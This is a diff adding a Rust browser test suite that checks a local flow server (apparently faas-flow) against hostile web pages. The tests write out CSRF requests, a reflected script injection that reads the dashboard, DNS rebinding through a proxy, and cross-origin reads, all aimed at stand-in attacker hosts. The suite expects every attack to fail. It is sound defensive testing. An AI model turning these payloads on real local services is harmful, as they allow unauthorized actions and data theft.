@@ -1,0 +1,443 @@
+//! What pages of others can do in the browser of somebody who runs a local server: attacks, played in Chromium.
+
+use axum::Router;
+use axum::body::Bytes;
+use axum::http::header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE};
+use axum::response::Html;
+use axum::routing::get;
+use faas_flow_core::Digest;
+use faas_flow_e2e::browser::Browser;
+use faas_flow_e2e::command::{faas_flow, script};
+use faas_flow_e2e::server::{Serve, Server};
+use faas_flow_e2e::wait::until;
+use faas_flow_test_support::{double, modules};
+use reqwest::{Method, Response};
+use serde_json::Value;
+use std::fs;
+use std::path::Path;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+use tempfile::TempDir;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, copy_bidirectional};
+use tokio::net::{TcpListener, TcpStream};
+
+/// A page whose script marks it, if it is executed.
+const PAGE: &str = "<!doctype html><title>harmless</title><p>shown</p><script>document.title = 'executed'</script>";
+/// What an attacker's page has at hand. Each of its functions ends when the browser has its answer, whatever that is.
+const TOOLS: &str = "
+    const ended = (element, place) => new Promise(done => {
+        element.onload = element.onerror = () => done('ended');
+        place.append(element);
+    });
+    const with_ = (name, fields) => Object.assign(document.createElement(name), fields);
+    const image = url => ended(with_('img', { src: url }), document.body);
+    const style = url => ended(with_('link', { rel: 'stylesheet', href: url }), document.head);
+    const link = href => document.body.append(with_('a', { href, textContent: 'a link' }));
+    const frame = url => ended(with_('iframe', { src: url }), document.body);
+    const form = (method, action) => {
+        const target = with_('iframe', { name: 'target' });
+        const form = with_('form', { method, action, target: 'target' });
+        document.body.append(target, form);
+        const sent = new Promise(done => target.onload = () => done('ended'));
+        form.submit();
+        return sent;
+    };
+    const send = (method, url, body) => fetch(url, { method, body, mode: 'no-cors' }).then(() => 'ended', () => 'failed');
+    const read = url => fetch(url).then(answer => answer.text()).catch(() => null);
+    ";
+
+/// A local server, with a run that waits and a function whose calls are counted; and the site of an attacker.
+struct Scene {
+    folder: TempDir,
+    server: Server,
+    /// The attacker's site, by its port.
+    site: String,
+    calls: Arc<AtomicUsize>,
+}
+
+/// What an attack may change.
+#[derive(Debug, PartialEq)]
+struct Effects {
+    waiting_run: String,
+    runs: usize,
+    calls: usize,
+}
+
+impl Scene {
+    async fn new() -> Self {
+        let folder = TempDir::new().unwrap();
+        let calls = Arc::new(AtomicUsize::new(0));
+        let module = fs::read(modules::module("greet")).unwrap();
+        let counted = calls.clone();
+        let count = async move || {
+            counted.fetch_add(1, Ordering::Relaxed);
+            "counted"
+        };
+        let site = Router::new()
+            .route("/", get(async || Html("<!doctype html><body>an attacker's page</body>")))
+            .route("/module", get(async || ([(ACCESS_CONTROL_ALLOW_ORIGIN, "*")], module)))
+            .route("/count", axum::routing::any(count))
+            .route("/html", axum::routing::any(async || ([(CONTENT_TYPE, "text/html")], PAGE)))
+            .route("/wait", axum::routing::any(std::future::pending::<Bytes>));
+        let site = double::serve(site).await;
+        let page = script(folder.path(), "page.sh", &format!("cat <<'END'\n{PAGE}\nEND"));
+        let url = |path: &str| format!("{site}/{path}");
+        let server = Serve::flows(&["async-chain", "greet"]).function("func1", url("wait")).function("func2", "echo");
+        let server = server.function("count", url("count")).function("html", url("html")).function("page", page);
+        let server = server.function("fake-storage", "echo").with("--call-timeout", "1h").start_in(folder.path());
+        let waits = server.request("/function/async-chain", "hi").header("X-Faas-Flow-Reqid", "waits");
+        assert_eq!(server.send(waits).await.status, 202);
+        let site = site.split_once("127.0.0.1:").unwrap().1.to_owned();
+        Self { folder, server, site, calls }
+    }
+
+    async fn effects(&self) -> Effects {
+        let json = async |path: &str| -> Value {
+            let request = self.server.client.get(self.server.url(path)).header("Accept", "application/json");
+            serde_json::from_str(&self.server.send(request).await.ok()).unwrap()
+        };
+        Effects {
+            waiting_run: json("/function/async-chain/flow/waits/state").await["state"].as_str().unwrap().to_owned(),
+            runs: json("/dashboard/flows/async-chain").await["runs"].as_array().unwrap().len(),
+            calls: self.calls.load(Ordering::Relaxed),
+        }
+    }
+
+    /// Opens a page in the browser, and waits until it is what the browser shows.
+    async fn until_shown(&self, browser: &Browser, path: &str) {
+        let shown = "return [location.href, document.readyState]";
+        let url = self.server.url(path);
+        until("the browser shows the answer", async || {
+            browser.script(shown).await == serde_json::json!([url, "complete"])
+        })
+        .await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_of_another_origin_changes_nothing_and_reads_nothing() {
+    let scene = Scene::new().await;
+    let server = scene.server.url("");
+    let browser = Browser::open(scene.folder.path()).await;
+    let chain = format!("{server}/function/async-chain");
+    let attacks = [
+        format!("return image('{chain}?pause-flow=waits')"),
+        format!("return image('{chain}/flow/waits/pause')"),
+        format!("return style('{chain}?pause-flow=waits')"),
+        format!("return frame('{chain}?pause-flow=waits')"),
+        format!("return form('get', '{chain}/flow/waits/pause')"),
+        format!("return form('post', '{chain}/flow/waits/pause')"),
+        format!("return send('POST', '{chain}/flow/waits/pause')"),
+        format!("return send('POST', '{chain}?pause-flow=waits')"),
+        format!("return image('{chain}?begun-by=image')"),
+        format!("return send('POST', '{chain}', 'begun by fetch')"),
+        format!("return send('POST', '{server}/async-function/async-chain', 'begun by the queue')"),
+        format!("return form('post', '{chain}')"),
+        format!("return image('{server}/function/count')"),
+        format!("return send('HEAD', '{server}/function/count')"),
+        format!("return send('POST', '{server}/function/count')"),
+        format!("return send('POST', '{server}/async-function/count')"),
+        format!("return form('post', '{server}/function/count')"),
+        format!("return link('{chain}')"),
+        format!("return link('{server}/function/count')"),
+        format!("return link('{server}/async-function/count')"),
+    ];
+    let mut done = Vec::new();
+    // Another site, and another port of the same one.
+    for origin in ["attacker.localhost", "127.0.0.1"].map(|host| format!("http://{host}:{}/", scene.site)) {
+        for attack in &attacks {
+            browser.go(&origin).await;
+            let before = scene.effects().await;
+            browser.script(&format!("{TOOLS}{attack}")).await;
+            if attack.starts_with("return link") {
+                // The next command to the browser waits until the page is loaded.
+                browser.click("a").await;
+                browser.script("").await;
+            }
+            let after = scene.effects().await;
+            if after != before {
+                done.push(format!("{origin}: {attack}: {before:?} -> {after:?}"));
+                let resume = scene.server.post("/function/async-chain/flow/waits/resume", "").await;
+                assert!(matches!(resume.status, 200 | 409), "{resume:?}");
+            }
+        }
+        for path in ["/dashboard/", "/dashboard/runs/waits", "/function/async-chain/flow/waits/result", "/_/metrics"] {
+            browser.go(&origin).await;
+            let read = format!(
+                "{TOOLS}return read('{server}{path}').then(async text => {{
+                    await frame('{server}{path}');
+                    const inner = document.querySelector('iframe').contentDocument;
+                    return text ?? inner?.body.textContent ?? null;
+                }})"
+            );
+            let read = browser.script(&read).await;
+            if !read.is_null() {
+                done.push(format!("{origin}: read {path}: {read}"));
+            }
+        }
+    }
+    assert_eq!(done, Vec::<String>::new(), "{} attacks succeeded", done.len());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_functions_answer_is_no_page_with_the_rights_of_the_server() {
+    let scene = Scene::new().await;
+    let browser = Browser::open(scene.folder.path()).await;
+    let mut done = Vec::new();
+    // The text comes back from a function that answers with its input.
+    let echoed = scene.server.url("/function/fake-storage");
+    let steals = "const asks = new XMLHttpRequest(); asks.open('GET', '/dashboard/', false); asks.send(); \
+                  document.title = `read ${asks.responseText.length}`;";
+    browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
+    let name = format!("<script>{steals}</script><!--");
+    browser
+        .script(&format!(
+            "{TOOLS}const sent = with_('form', {{ method: 'post', action: '{echoed}', enctype: 'text/plain' }});
+             sent.append(with_('input', {{ name: {}, value: '-->' }}));
+             document.body.append(sent);
+             sent.submit()",
+            serde_json::to_string(&name).unwrap().replace("</", "<\\/")
+        ))
+        .await;
+    scene.until_shown(&browser, "/function/fake-storage").await;
+    let title = browser.script("return document.title").await;
+    if title.as_str().unwrap().starts_with("read ") {
+        done.push(format!("the echo: {title}"));
+    }
+    // Pages that functions answer with, however the browser comes to open them.
+    for path in ["/function/html", "/function/page"] {
+        browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
+        browser.go(&scene.server.url(path)).await;
+        let title = browser.script("return document.title").await;
+        if title == "executed" {
+            done.push(format!("{path}: {title}"));
+        }
+        let answer = scene.server.client.get(scene.server.url(path)).send().await.unwrap();
+        assert!(answer.text().await.unwrap().contains("<p>shown</p>"), "programs get all of it");
+    }
+    assert_eq!(done, Vec::<String>::new());
+}
+
+/// Serves an attacker's page, and hands what comes later to the server: as if a name had got another address.
+async fn rebinding(server: &Server) -> (u16, Arc<AtomicBool>) {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let rebound = Arc::new(AtomicBool::new(false));
+    let (address, leads_there) = (server.address.clone(), rebound.clone());
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let (address, leads_there) = (address.clone(), leads_there.clone());
+            tokio::spawn(async move {
+                // Browsers open connections before they need them.
+                let _ = stream.readable().await;
+                if leads_there.load(Ordering::Relaxed) {
+                    let mut target = TcpStream::connect(address).await.unwrap();
+                    let _ = copy_bidirectional(&mut stream, &mut target).await;
+                } else if stream.read(&mut [0; 4096]).await.is_ok_and(|read| read > 0) {
+                    let page =
+                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\nan attacker's page";
+                    let _ = stream.write_all(page.as_bytes()).await;
+                }
+            });
+        }
+    });
+    (port, rebound)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_name_that_is_rebound_to_the_server_opens_nothing() {
+    let scene = Scene::new().await;
+    let (port, rebound) = rebinding(&scene.server).await;
+    let rule = format!("--host-resolver-rules=MAP attacker.example:80 127.0.0.1:{port}");
+    let browser = Browser::open_with(scene.folder.path(), &[&rule]).await;
+    browser.go("http://attacker.example/").await;
+    assert_eq!(browser.script("return document.body.textContent").await, "an attacker's page");
+    rebound.store(true, Ordering::Relaxed);
+    let module = fs::read(modules::module("greet")).unwrap();
+    let digest = Digest::of(&module);
+    // A module for a flow that has another one.
+    let attack = format!(
+        "return (async () => {{
+            const ask = (method, path, body) => fetch(path, {{ method, body }}).then(answer => answer.status, String);
+            const module = await (await fetch('http://attacker.localhost:{}/module')).arrayBuffer();
+            const versions = '/function/async-chain/modules';
+            return {{
+                dashboard: await ask('GET', '/dashboard/'),
+                result: await ask('GET', '/function/async-chain/flow/waits/result'),
+                begin: await ask('POST', '/function/async-chain', 'hi'),
+                push: await ask('PUT', `${{versions}}/{digest}`, module),
+                activate: await ask('POST', `${{versions}}/{digest}/activate`),
+                stop: await ask('POST', '/function/async-chain/flow/waits/stop'),
+            }};
+        }})()",
+        scene.site
+    );
+    let answers = browser.script(&attack).await;
+    let succeeded: Vec<_> = answers.as_object().unwrap().iter().filter(|(_, status)| **status != 421).collect();
+    assert!(succeeded.is_empty(), "{succeeded:?}");
+    assert_eq!(scene.effects().await, Effects { waiting_run: "running".to_owned(), runs: 1, calls: 0 });
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn own_pages_links_to_them_and_listed_origins_work() {
+    let scene = Scene::new().await;
+    let browser = Browser::open(scene.folder.path()).await;
+    let title = "return document.title";
+    browser.go(&scene.server.url("/dashboard/")).await;
+    assert_eq!(browser.script(title).await, "Flows · faas-flow");
+    // The other name of this machine is another origin, and an own one.
+    let port = scene.server.address.rsplit(':').next().unwrap();
+    browser.go(&format!("http://localhost:{port}/dashboard/runs/waits")).await;
+    assert_eq!(browser.script(title).await, "waits · faas-flow");
+    let own = "return fetch('/function/count', { method: 'POST', body: 'hi' }).then(answer => answer.text())";
+    assert_eq!(browser.script(own).await, "counted");
+    // A link of another site leads to a page, which that site cannot look into.
+    browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
+    let opened = format!("window.opened = window.open('{}')", scene.server.url("/dashboard/"));
+    browser.script(&opened).await;
+    until("the page is cut off from its opener", async || browser.script("return window.opened.closed").await == true)
+        .await;
+    browser.script(&format!("location.href = '{}'", scene.server.url("/dashboard/runs/waits"))).await;
+    scene.until_shown(&browser, "/dashboard/runs/waits").await;
+    assert_eq!(browser.script(title).await, "waits · faas-flow");
+}
+
+/// A request to a server, as a browser would send it for a page.
+async fn ask(server: &Server, method: Method, path: &str, headers: &[(&str, &str)]) -> (u16, Option<String>, Response) {
+    let request = server.client.request(method, server.url(path)).body("hi");
+    let request = headers.iter().fold(request, |request, (name, value)| request.header(*name, *value));
+    let response = request.send().await.unwrap();
+    let code = response.headers().get("x-faas-flow-error").map(|code| code.to_str().unwrap().to_owned());
+    (response.status().as_u16(), code, response)
+}
+
+#[tokio::test]
+async fn hosts_and_origins_are_allowed_by_name() {
+    let server = Serve::flows(&["greet"]).with("--allowed-host", "flows.example");
+    let server = server.with("--allowed-origin", "https://app.example").start();
+    let greet = "/function/greet";
+    let status = async |method, path, headers: &[(&str, &str)]| {
+        let (status, code, _) = ask(&server, method, path, headers).await;
+        (status, code)
+    };
+    let refused = |status, code: &str| (status, Some(code.to_owned()));
+    assert_eq!(status(Method::POST, greet, &[("Host", "flows.example")]).await, (200, None));
+    assert_eq!(status(Method::POST, greet, &[("Host", "attacker.example")]).await, refused(421, "FF0514"));
+    let listed = [("Origin", "https://app.example"), ("Sec-Fetch-Site", "cross-site")];
+    assert_eq!(status(Method::POST, greet, &listed).await, (200, None));
+    for path in ["/function/greet/flow/r/stop", "/function/greet/modules/rollback", "/function/greet/modules/gc"] {
+        assert_eq!(status(Method::POST, path, &listed).await, refused(403, "FF0515"), "{path}");
+    }
+    for path in ["/dashboard/", "/dashboard/flows/greet", "/function/greet/modules"] {
+        assert_eq!(status(Method::GET, path, &listed).await, refused(403, "FF0515"), "{path}");
+    }
+    let other = [("Origin", "https://attacker.example")];
+    let (_, _, answer) = ask(&server, Method::POST, greet, &other).await;
+    assert_eq!(answer.status(), 403);
+    let said = answer.text().await.unwrap();
+    assert!(said.contains("https://attacker.example") && said.contains("allowed_origins"), "{said}");
+    let (_, _, answer) =
+        ask(&server, Method::GET, "/", &[("Host", "attacker.example:80"), ("Accept", "application/json")]).await;
+    let said = answer.text().await.unwrap();
+    assert!(said.starts_with('{') && said.contains("--allowed-host attacker.example:80"), "{said}");
+}
+
+#[tokio::test]
+async fn runs_are_controlled_by_get_only_where_a_token_protects_that() {
+    let scene = Scene::new().await;
+    let chain = "/function/async-chain";
+    for path in ["?pause-flow=waits", "?stop-flow=waits", "?resume-flow=waits", "/flow/waits/pause", "/flow/waits/stop"]
+    {
+        let (status, code, answer) = ask(&scene.server, Method::GET, &format!("{chain}{path}"), &[]).await;
+        assert_eq!((status, code.as_deref()), (405, Some("FF0509")), "{path}");
+        assert_eq!(answer.headers()["allow"], "POST", "{path}");
+    }
+    assert_eq!(scene.effects().await.waiting_run, "running");
+    scene.server.post(&format!("{chain}?pause-flow=waits"), "").await.ok();
+
+    let folder = TempDir::new().unwrap();
+    let token = "a token of more than sixteen";
+    fs::create_dir(folder.path().join("secrets")).unwrap();
+    fs::write(folder.path().join("secrets/faasflow-admin-token"), token).unwrap();
+    let server = Serve::flows(&["greet"]).with("--secrets", "secrets").start_in(folder.path());
+    server.send(server.request("/function/greet", "hi").header("X-Faas-Flow-Reqid", "r")).await.ok();
+    let by_get = server.client.get(server.url("/function/greet?stop-flow=r"));
+    server.send(by_get.try_clone().unwrap()).await.failed(401, "FF0506");
+    server.send(by_get.bearer_auth(token)).await.failed(409, "FF0222");
+}
+
+#[tokio::test]
+async fn every_answer_says_what_it_is_and_is_no_page_of_the_server() {
+    let scene = Scene::new().await;
+    let server = &scene.server;
+    server.send(server.request("/function/greet", PAGE).header("X-Faas-Flow-Reqid", "r")).await.ok();
+    for (method, path, kind) in [
+        (Method::GET, "/function/greet/flow/r/result", "application/octet-stream"),
+        (Method::GET, "/function/greet/flow/r/state", "text/plain; charset=utf-8"),
+        (Method::GET, "/function/page", "application/octet-stream"),
+        (Method::GET, "/function/html", "text/html"),
+        (Method::GET, "/function/%3Cscript%3E", "text/plain; charset=utf-8"),
+        (Method::GET, "/nowhere/%3Cscript%3E", "text/plain; charset=utf-8"),
+        (Method::GET, "/", "text/plain; charset=utf-8"),
+        (Method::GET, "/_/openapi.json", "application/json"),
+    ] {
+        let (_, _, answer) = ask(server, method, path, &[]).await;
+        let header = |name: &str| answer.headers().get(name).map(|value| value.to_str().unwrap());
+        assert_eq!(header("content-type"), Some(kind), "{path}");
+        assert_eq!(header("x-content-type-options"), Some("nosniff"), "{path}");
+        assert_eq!(header("cross-origin-resource-policy"), Some("same-origin"), "{path}");
+        assert!(header("content-security-policy").is_some_and(|policy| policy.ends_with("; sandbox")), "{path}");
+    }
+    for path in ["/dashboard/", "/dashboard/nowhere", "/dashboard/style.css"] {
+        let (_, _, answer) = ask(server, Method::GET, path, &[]).await;
+        let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
+        assert!(header("content-security-policy").contains("frame-ancestors 'none'"), "{path}");
+        assert_eq!(header("cross-origin-opener-policy"), "same-origin", "{path}");
+        assert_eq!(header("cross-origin-resource-policy"), "same-origin", "{path}");
+        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
+        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
+    }
+}
+
+/// `faas-flow dashboard` at a loopback address, with the store of a folder.
+fn dashboard(folder: &Path) -> Server {
+    let mut command = faas_flow(folder);
+    command.args([
+        "dashboard",
+        "--listen",
+        "127.0.0.1:0",
+        "--state-store",
+        "sqlite:state.db",
+        "--data-store",
+        "files:data",
+    ]);
+    Server::start(command)
+}
+
+#[tokio::test]
+async fn a_dashboard_and_a_function_check_hosts_if_only_their_machine_reaches_them() {
+    let folder = TempDir::new().unwrap();
+    let dashboard = dashboard(folder.path());
+    let function = Serve::replica("greet").with("--state-store", "memory").start();
+    for (server, path) in [(&dashboard, "/"), (&function, "/flow/r/state"), (&function, "/_/metrics")] {
+        for headers in [[("Host", "attacker.example")], [("Origin", "http://attacker.example")]] {
+            let (status, code, _) = ask(server, Method::GET, path, &headers).await;
+            assert!(
+                matches!((status, code.as_deref()), (421, Some("FF0514")) | (403, Some("FF0515"))),
+                "{path}: {status}"
+            );
+        }
+    }
+    // Others reach this one, so it answers to whatever name its gateway uses.
+    let folder = TempDir::new().unwrap();
+    fs::create_dir(folder.path().join("secrets")).unwrap();
+    fs::write(folder.path().join("secrets/faasflow-hmac-secret"), "the secret of these tests").unwrap();
+    let open = Serve::replica("greet").with("--state-store", "memory").with("--secrets", "secrets");
+    let open = open.with("--listen", "0.0.0.0:0").start_in(folder.path());
+    let headers =
+        [("Host", "greet.openfaas-fn.svc"), ("Origin", "https://shop.example"), ("Sec-Fetch-Site", "cross-site")];
+    let (status, _, answer) = ask(&open, Method::POST, "/", &headers).await;
+    assert_eq!(status, 200);
+    assert!(answer.headers().get("cross-origin-resource-policy").is_none(), "pages of others may embed it");
+    assert_eq!(answer.headers()["x-content-type-options"], "nosniff");
+}
